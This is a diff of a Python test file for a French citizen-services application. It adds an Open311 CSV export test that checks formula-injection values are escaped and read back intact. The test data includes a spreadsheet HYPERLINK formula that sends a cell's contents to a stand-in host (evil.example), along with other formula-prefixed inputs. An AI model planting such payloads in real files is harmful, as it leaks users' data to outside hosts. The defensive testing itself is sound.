@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import zipfile
 from datetime import date, datetime, timedelta
 from pathlib import Path
@@ -19,9 +20,11 @@ from citizenspace.domain.catalog import Channel, Competence, VisitOutcome
 from citizenspace.domain.directory import EntryDraft
 from citizenspace.services.directory import DirectoryService
 from citizenspace.services.directory_io import DirectoryFiles
+from citizenspace.services.open311 import REQUEST_FIELDS, Open311Service
 from citizenspace.services.people_import import PeopleImportService
 from citizenspace.services.quality import QualityService
-from citizenspace.services.spreadsheets import FORMULA_SIGNS, write_csv
+from citizenspace.services.spreadsheets import FORMULA_SIGNS, restore, write_csv
+from citizenspace.services.tickets import CategoryDraft, TicketDraft, TicketService
 from citizenspace.store.models import DirectoryEntry, Person, Site, Visit
 
 LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
@@ -223,6 +226,46 @@ def test_people_written_by_the_application_import_back_unchanged(db, tmp_path):
             for p in s.scalars(select(Person))
         }
     assert stored == {(p[0], p[1], p[2], p[3], p[5]) for p in people}
+
+
+# --------------------------------------------------------------------------- Open311
+
+
+@pytest.fixture
+def hostile_tickets(db):
+    svc = TicketService(db, today=lambda: date(2026, 3, 2))
+    cat = svc.add_category(CategoryDraft("voirie", "=Voirie", 21, None, "@trottoirs", "-trou"))
+    svc.open_ticket(
+        TicketDraft(
+            cat.id, LINK, address="-2 rue d'Isle, 44000 Nantes", latitude=47.2184, longitude=-1.5536
+        )
+    )
+    rejected = svc.open_ticket(TicketDraft(cat.id, "+33 6 12 34 56 78 appelle"))
+    svc.reject(rejected, "=1+1 " + CMD)
+    return db
+
+
+def test_the_open311_csv_runs_nothing_and_reads_back_as_the_json(hostile_tickets, tmp_path):
+    service = Open311Service(hostile_tickets)
+    doc = json.loads(service.export_json(tmp_path / "o.json").files[0].read_text("utf-8"))
+    requests_path, services_path = service.export_csv(tmp_path / "o.csv").files
+
+    cells = csv_cells(requests_path)
+    assert cells[0] == list(REQUEST_FIELDS)
+    # Only the coordinates the application computed start with "-": numbers, not text.
+    assert runnable(cells) == ["-1.5536"]
+    flat = {c for row in cells for c in row}
+    assert {"'" + LINK, "'=1+1 " + CMD, "'=Voirie", "'+33 6 12 34 56 78 appelle"} <= flat
+
+    def as_text(v: object) -> str:
+        return "" if v is None else "true" if v is True else "false" if v is False else str(v)
+
+    read_back = [[restore(c) for c in row] for row in cells[1:]]
+    assert read_back == [[as_text(r[f]) for f in REQUEST_FIELDS] for r in doc["requests"]]
+
+    services = csv_cells(services_path)
+    assert runnable(services) == []
+    assert [restore(c) for c in services[1]][:3] == ["voirie", "=Voirie", "@trottoirs"]
 
 
 # --------------------------------------------------------------------------- quality
